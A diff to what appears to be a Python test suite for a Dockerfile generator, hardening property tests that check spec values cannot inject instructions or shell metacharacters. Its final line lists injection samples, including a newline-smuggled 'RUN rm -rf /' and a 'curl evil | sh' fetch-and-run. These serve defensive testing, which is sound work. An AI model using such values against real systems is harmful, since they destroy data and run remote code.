@@ -27,7 +27,7 @@ RES = Resolution(
 def logical_lines(dockerfile: str) -> list[str]:
     """Docker's reading of a Dockerfile: comments dropped, backslash-newline continues a line."""
     out, cur = [], ""
-    for raw in dockerfile.splitlines():
+    for raw in dockerfile.split("\n"):  # Docker's scanner splits on \n only
         if raw.lstrip().startswith("#") and not cur:
             continue
         if raw.rstrip().endswith("\\"):
@@ -60,7 +60,7 @@ def unquote_docker(word: str) -> str:
 
 def render(env=(), command=(), apt=()) -> str:
     plan = plan_dockerfile(
-        name="demo", res=RES, base_image=RES.base_image, base_kind="slim", header="# h", system_packages=tuple(apt),
+        name="demo", res=RES, base_image=RES.base_image, base_kind="slim", system_packages=tuple(apt),
         env=tuple(env), command=tuple(command), lock_hash="a" * 64, inputs_hash="b" * 64,
         fw_lock="requirements.framework.lock.txt", req_lock="requirements.lock.txt",
     )
@@ -68,7 +68,8 @@ def render(env=(), command=(), apt=()) -> str:
 
 
 BASELINE = [ln.split()[0] for ln in logical_lines(render(env=[("A", "x")], command=["python"]))]
-printable = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="".join(map(chr, range(32))) + "\x7f"), max_size=40)
+CONTROL = "".join(map(chr, range(32))) + "".join(map(chr, range(0x7F, 0xA0))) + "\u2028\u2029"
+printable = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters=CONTROL), max_size=40)
 
 
 @settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@@ -88,7 +89,7 @@ def test_env_and_command_cannot_add_instructions(value, cmd):
 def test_spec_values_with_control_characters_are_refused(value):
     """Newlines, tabs, NUL … never reach a template: the spec refuses them with a field name."""
     data = {"name": "demo", "env": {"A": value}, "command": ["python", value], "packages": [], "cpu": True}
-    if any(ord(c) < 32 or ord(c) == 127 for c in value):
+    if any(c in CONTROL for c in value):
         with pytest.raises(UsageError) as exc:
             parse_spec(data)
         assert exc.value.message.startswith("envman.yaml: env.A: ") or exc.value.message.startswith("envman.yaml: command")
@@ -108,7 +109,8 @@ def test_apt_names_are_single_shell_words(name):
     text = render(apt=spec.system_packages)
     lines = logical_lines(text)
     run = next(ln for ln in lines if "apt-get install" in ln)
-    assert run.split()[-1] == name and not set(name) & set(";&|$()`'\"\\<>* \n")
+    word = spec.system_packages[0]  # as validated (surrounding blanks trimmed)
+    assert run.split()[-1] == word and not set(word) & set(";&|$()`'\"\\<>* \n")
 
 
 @pytest.mark.parametrize("bad", ["a\nRUN rm -rf /", 'x" && curl evil | sh', "$(id)", "a\\", "`id`"])
